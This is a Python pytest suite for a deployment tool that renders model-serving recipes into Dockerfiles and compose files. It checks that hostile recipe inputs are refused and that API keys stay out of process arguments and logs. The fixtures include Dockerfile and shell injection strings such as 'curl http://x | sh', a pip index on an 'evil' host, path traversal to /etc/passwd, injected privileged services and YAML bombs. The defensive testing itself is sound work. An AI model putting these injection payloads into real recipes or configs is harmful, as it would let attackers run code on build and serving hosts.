"""Hostile recipes: each crafted recipe is refused by `rig validate` with one line,
`rig render` writes nothing for it, and what render does write cannot be injected into."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import REPO, rig_cli, rig_main, set_field

from rig.deploy.recipe import parse_recipe
from rig.errors import RigError

RENDERED = sorted([*(REPO / "docker").glob("*/Dockerfile"), *(REPO / "compose").glob("*.yaml")])


def _write(tmp_path: Path, base: str, change, name: str | None = None) -> Path:
    data = yaml.safe_load((REPO / "recipes" / f"{base}.yaml").read_text())
    change(data)
    path = tmp_path / f"{name or data['name']}.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


_set = set_field


def _variant(key: str):
    def change(data):
        data["variants"][key] = {"description": "x"}
    return change


# case -> (base recipe, change, field named in the message)
CRAFTED = {
    "repository injects RUN": ("tiny-cpu", _set("image.repository", "python\nRUN curl http://x | sh\n#"), "image.repository"),
    "repository uppercase": ("tiny-cpu", _set("image.repository", "Python"), "image.repository"),
    "tag injects": ("tiny-cpu", _set("image.tag", "3.12 AS x"), "image.tag"),
    "model path with shell": ("tiny-cpu", _set("model.path", "/models/x; curl http://x | sh"), "model.path"),
    "model path relative": ("tiny-cpu", _set("model.path", "models/x"), "model.path"),
    "model path traversal": ("tiny-cpu", _set("model.path", "/models/../etc"), "model.path"),
    "model path with colon": ("mia-tp4", _set("model.path", "/models/x:/host"), "model.path"),
    "pip with newline": ("tiny-cpu", _set("image.pip_install", ["torch==2.13.0\nRUN id"]), "image.pip_install"),
    "pip range": ("tiny-cpu", _set("image.pip_install", ["torch>=2"]), "image.pip_install.0"),
    "pip option": ("tiny-cpu", _set("image.pip_install", ["--index-url=http://evil/simple"]), "image.pip_install.0"),
    "pip url": ("tiny-cpu", _set("image.pip_install", ["torch @ http://evil/torch.whl"]), "image.pip_install.0"),
    "pip wildcard": ("tiny-cpu", _set("image.pip_install", ["torch==2.*"]), "image.pip_install.0"),
    "variant key injects a service": ("tiny-cpu", _variant("x\n---\nservices: {evil: {privileged: true}}"), "variants"),
    "variant key traverses": ("tiny-cpu", _variant("x/../../../name"), "variants"),
    "variant key uppercase": ("tiny-cpu", _variant("Fast"), "variants"),
    "env key with space": ("tiny-cpu", _set("env", {"BAD KEY": "1"}), "env"),
    "env key with dash": ("tiny-cpu", _set("env", {"A-B": "1"}), "env"),
    "variant env key": ("tiny-cpu", _set("variants.cb.env", {"1ST": "1"}), "variants.cb.env"),
    "adapter gate key": ("tiny-cpu", _set("variants.delay.adapters", [{"name": "token_delay", "gates": {"X=1 Y": "1"}}]), "variants.delay.adapters.0.gates"),
    "env value not a string": ("tiny-cpu", _set("env", {"OMP_NUM_THREADS": 1}), "env.OMP_NUM_THREADS"),
    "port true": ("tiny-cpu", _set("serving.port", True), "serving.port"),
    "port string": ("tiny-cpu", _set("serving.port", "8000"), "serving.port"),
    "port float": ("tiny-cpu", _set("serving.port", 8000.0), "serving.port"),
    "port out of range": ("tiny-cpu", _set("serving.port", 70000), "serving.port"),
    "tp as string": ("mia-tp4", _set("topology.tp", "4"), "topology.tp"),
    "unpinned as string": ("tiny-cpu", _set("image.unpinned", "yes"), "image.unpinned"),
    "health on another host": ("tiny-cpu", _set("serving.health", "//evil.example/health"), "serving.health"),
    "health with scheme": ("tiny-cpu", _set("serving.health", "http://evil.example/health"), "serving.health"),
    "health with compose variable": ("tiny-cpu", _set("serving.health", "/health${HOME}"), "serving.health"),
    "bind a hostname": ("tiny-cpu", _set("serving.bind", "localhost"), "serving.bind"),
    "bind with a port": ("tiny-cpu", _set("serving.bind", "127.0.0.1:80"), "serving.bind"),
    "shm size": ("tiny-cpu", _set("serving.shm_size", "lots"), "serving.shm_size"),
    "gpu id negative": ("mia-tp4", _set("topology.gpu_ids", [0, 1, 2, -3]), "topology.gpu_ids"),
    "gpu id twice": ("mia-tp4", _set("topology.gpu_ids", [0, 1, 1, 2]), "topology.gpu_ids"),
    "gpu id string": ("mia-tp4", _set("topology.gpu_ids", ["0", "1", "2", "3"]), "topology.gpu_ids"),
    "duplicate adapter": ("mia-tp4", _set("adapters", [{"name": "mxfp8_b12x", "gates": {"RIG_MXFP8_B12X": "1"}},
                                                       {"name": "mxfp8_b12x", "gates": {"RIG_MXFP8_B12X": "0"}}]), "adapters"),
    # Patterns run with RE2 (linear time): (a+)+$ is harmless there; what RE2 cannot run is refused.
    "regex backreference": ("tiny-cpu", _set("boot_log", {"forbid": ["(a)\\1"]}), "boot_log.forbid"),
    "regex lookahead": ("tiny-cpu", _set("boot_log", {"must": ["x(?=y)"]}), "boot_log.must"),
    "regex too long": ("tiny-cpu", _set("boot_log", {"must": ["a" * 500]}), "boot_log.must"),
    "newline in description": ("tiny-cpu", _set("description", "ok\nLABEL evil=1"), "description"),
    "escape in server arg": ("tiny-cpu", _set("server_args", ["--device", "cpu\x1b[2J"]), "server_args.1"),
    "bidi override in env value": ("tiny-cpu", _set("env", {"OMP_NUM_THREADS": "1\u202e"}), "env.OMP_NUM_THREADS"),
    "tab in a key": ("tiny-cpu", _set("env", {"A\tB": "1"}), "env"),
    "dims traverses": ("tiny-cpu", _set("model.dims", "../../etc/passwd"), "model.dims"),
}


def _snapshot() -> dict[Path, tuple[float, str]]:
    return {path: (path.stat().st_mtime, path.read_text()) for path in RENDERED}


@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_crafted_recipe_is_refused_in_one_line(tmp_path, case):
    base, change, field = CRAFTED[case]
    path = _write(tmp_path, base, change)
    with pytest.raises(RigError) as caught:
        parse_recipe(path)
    message = str(caught.value)
    assert "\n" not in message and "\r" not in message, message
    assert message.startswith(f"{path}: {field}"), message
    assert "fix: " in message and not message.endswith("fix: "), message


def test_validate_and_render_refuse_every_crafted_recipe_and_write_nothing(tmp_path):
    before = _snapshot()
    paths = []
    for case, (base, change, _) in CRAFTED.items():
        folder = tmp_path / case.replace(" ", "-")
        folder.mkdir()
        paths.append(str(_write(folder, base, change)))
    validate = rig_cli("validate", *paths)  # the process: its exit code, and no traceback
    assert validate.returncode == 1 and "Traceback" not in validate.stdout + validate.stderr
    fails = [line for line in validate.stdout.splitlines() if line.startswith("FAIL")]
    assert len(fails) == len(CRAFTED), validate.stdout
    for path in paths:  # the same CLI in this process: a crash would raise here
        render = rig_main("render", path)
        assert render.returncode == 2, render.stdout + render.stderr
        assert len(render.stderr.strip().splitlines()) == 1 and "Traceback" not in render.stderr
        assert render.stdout == ""
    assert _snapshot() == before
    assert not list(REPO.glob("compose/*name*")) and not (REPO.parent / "name.yaml").exists()


def test_render_refuses_what_slipped_past_the_schema(tmp_path):
    """Defence in depth: a Recipe built without validation still cannot inject or escape."""
    import rig.deploy.render as render

    recipe = parse_recipe(REPO / "recipes" / "tiny-cpu.yaml")
    injected = recipe.model_copy(update={"description": "x\nRUN id"})
    with pytest.raises(RigError, match="control character"):
        render.rendered_files(injected)
    variant = next(iter(recipe.variants.values()))
    escaped = recipe.model_copy(update={"variants": {"../../../../tmp/escape": variant}, "default_variant": None})
    with pytest.raises(RigError, match="outside"):
        render.rendered_files(escaped)


def test_yaml_level_hostility(tmp_path):
    good = (REPO / "recipes" / "tiny-cpu.yaml").read_bytes()
    cases = {
        "duplicate key": (good + b"\nname: tiny-cpu\n", "duplicate key 'name'"),
        "utf-16": (good.decode().encode("utf-16"), "UTF-16"),
        "latin-1": (good.replace(b"CPU", "CPÜ".encode("latin-1")), "not UTF-8"),
        "deep nesting": (b"name: " + b"[" * 100_000 + b"]" * 100_000 + b"\n", "nested deeper"),
        "alias": (b"name: &n tiny-cpu\ndescription: *n\n", "aliases"),
        "huge": (b"# " + b"x" * (2 << 20) + b"\n", "larger than this file may be"),
    }
    for case, (data, expected) in cases.items():
        path = tmp_path / case.replace(" ", "-") / "tiny-cpu.yaml"
        path.parent.mkdir()
        path.write_bytes(data)
        result = rig_main("validate", str(path))
        assert result.returncode == 1, (case, result.stdout, result.stderr)
        assert "Traceback" not in result.stdout + result.stderr, case
        lines = result.stdout.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"FAIL {path}: ") and expected in lines[0], (case, lines)
    directory = tmp_path / "a-dir.yaml"
    directory.mkdir()
    for command in (("validate", str(directory)), ("render", str(directory))):
        result = rig_main(*command)
        output = result.stdout + result.stderr
        assert result.returncode in (1, 2) and "Traceback" not in output and "is a directory" in output, output
        assert len(output.strip().splitlines()) == 1


def test_recipe_and_cli_env_keys_are_identifiers():
    result = rig_main("up", "tiny-cpu", "--env", "BAD-KEY=1")
    assert result.returncode == 2 and "--env" in result.stderr and "Traceback" not in result.stderr
    result = rig_main("up", "tiny-cpu", "--port", "0")
    assert result.returncode == 2 and "--port" in result.stderr


def test_pip_and_model_path_reach_the_dockerfile_as_exec_form():
    text = (REPO / "docker" / "tiny-cpu" / "Dockerfile").read_text()
    recipe = parse_recipe(REPO / "recipes" / "tiny-cpu.yaml")
    runs = [json.loads(line[4:]) for line in text.splitlines() if line.startswith("RUN [")]
    assert ["python3", "-m", "pip", "install", "--no-cache-dir", *recipe.image.pip_install] in runs
    assert ["python3", "/opt/rig/tinymodel.py", "--preset", recipe.model.generate, recipe.model.path] in runs
    assert not re.search(r"^RUN .*(pip install --no-cache-dir torch|tinymodel.py /)", text, re.MULTILINE)


def test_label_values_are_not_substituted(tmp_path):
    from rig.deploy.render import render_dockerfile

    recipe = parse_recipe(REPO / "recipes" / "tiny-cpu.yaml").model_copy(update={"description": 'a "quoted" $HOME ${BASE_DIGEST}'})
    label = next(line for line in render_dockerfile(recipe).splitlines() if "image.description" in line)
    assert r'"a \"quoted\" \$HOME \${BASE_DIGEST}"' in label, label
    accented = recipe.model_copy(update={"description": "Café – naïve"})
    label = next(line for line in render_dockerfile(accented).splitlines() if "image.description" in line)
    assert '"Café – naïve"' in label, label  # the builder reads \u00e9 as six characters, not as é


# ---- the API key: never on the engine's argv ---------------------------------------------

FAKE_ENGINE = """import json, os, sys
config = sys.argv[sys.argv.index("--config") + 1] if "--config" in sys.argv else None
print(json.dumps({"argv": sys.argv, "env": dict(os.environ),
                  "config": open(config).read() if config else None,
                  "config_mode": oct(os.stat(config).st_mode & 0o777) if config else None}))
"""


def _run_entrypoint(compose_file: str, secret_dir: Path, key: str | None) -> subprocess.CompletedProcess:
    service = next(iter(yaml.safe_load((REPO / "compose" / compose_file).read_text())["services"].values()))
    shell, flag, script, name = service["entrypoint"]
    assert (shell, flag, name) == ("/bin/sh", "-c", "rig-serve")
    script = script.replace("$$", "$").replace("/run/rig", str(secret_dir))  # what compose hands the container
    env = {k: v for k, v in os.environ.items() if k not in ("RIG_API_KEY", "VLLM_API_KEY")}
    env["PATH"] = f"{Path(sys.executable).parent}:{env['PATH']}"  # python3 in the script = this interpreter
    if key is not None:
        env["RIG_API_KEY"] = key
    return subprocess.run(["/bin/sh", "-c", script, name, sys.executable, "-c", FAKE_ENGINE, "--port", "1"],
                          capture_output=True, text=True, env=env, check=False)


KEY = 'sk-"planted"\\-key $x'


def test_sglang_refuses_a_key_it_would_log(tmp_path):
    """SGLang logs its server arguments, api_key included, at start: with RIG_API_KEY set the container
    refuses in one line instead of writing the key into its log or serving an open endpoint."""
    result = _run_entrypoint("mia-tp4.yaml", tmp_path, KEY)
    assert result.returncode == 2 and result.stdout == "" and KEY not in result.stderr
    assert "rig will not hand sglang a key" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    without = json.loads(_run_entrypoint("mia-tp4.yaml", tmp_path / "unused", None).stdout)
    assert "--config" not in without["argv"] and "RIG_API_KEY" not in without["env"]


def test_vllm_gets_the_key_from_its_environment(tmp_path):
    seen = json.loads(_run_entrypoint("glm52-tp6.yaml", tmp_path, KEY).stdout)
    assert seen["env"]["VLLM_API_KEY"] == KEY and "RIG_API_KEY" not in seen["env"]
    assert all(KEY not in arg for arg in seen["argv"])
    assert "VLLM_API_KEY" not in json.loads(_run_entrypoint("glm52-tp6.yaml", tmp_path, None).stdout)["env"]


def test_transformers_refuses_a_key_it_cannot_take(tmp_path):
    result = _run_entrypoint("tiny-cpu.yaml", tmp_path, KEY)
    assert result.returncode == 2 and result.stdout == ""
    assert "transformers serve takes no API key" in result.stderr and KEY not in result.stderr
    assert json.loads(_run_entrypoint("tiny-cpu.yaml", tmp_path, None).stdout)["argv"][-2:] == ["--port", "1"]


def test_sglang_recipe_cannot_take_the_config_flag(tmp_path):
    path = _write(tmp_path, "mia-tp4", lambda d: d["server_args"].extend(["--config", "/x.yaml"]))
    result = rig_main("render", str(path))
    assert result.returncode == 2 and "--config" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_a_recipe_name_never_walks_out_of_recipes():
    for command in (("up", "../../etc/passwd"), ("validate", "x/../tiny-cpu"), ("render", "../recipes/tiny-cpu")):
        result = rig_main(*command)
        output = result.stdout + result.stderr
        # validate reports it as one more FAIL line (exit 1, like a recipe that does not parse); the others refuse (exit 2)
        assert result.returncode == (1 if command[0] == "validate" else 2), output
        assert "is not a recipe name" in output and "Traceback" not in output, output


def test_a_recipe_name_written_with_underscores_or_capitals_is_respelled():
    """tiny_cpu and Tiny-CPU are refused like any name outside the grammar, with the recipe they
    spell as the fix (a near miss such as tiny-cpuu gets a suggestion too)."""
    from rig.deploy.recipe import recipe_path
    from rig.errors import RigError

    for typed in ("tiny_cpu", "Tiny-CPU"):
        with pytest.raises(RigError) as refused:
            recipe_path(typed)
        assert refused.value.fix.startswith("did you mean tiny-cpu?"), refused.value.fix
    with pytest.raises(RigError) as refused:
        recipe_path("no_such_recipe")
    assert "did you mean" not in refused.value.fix
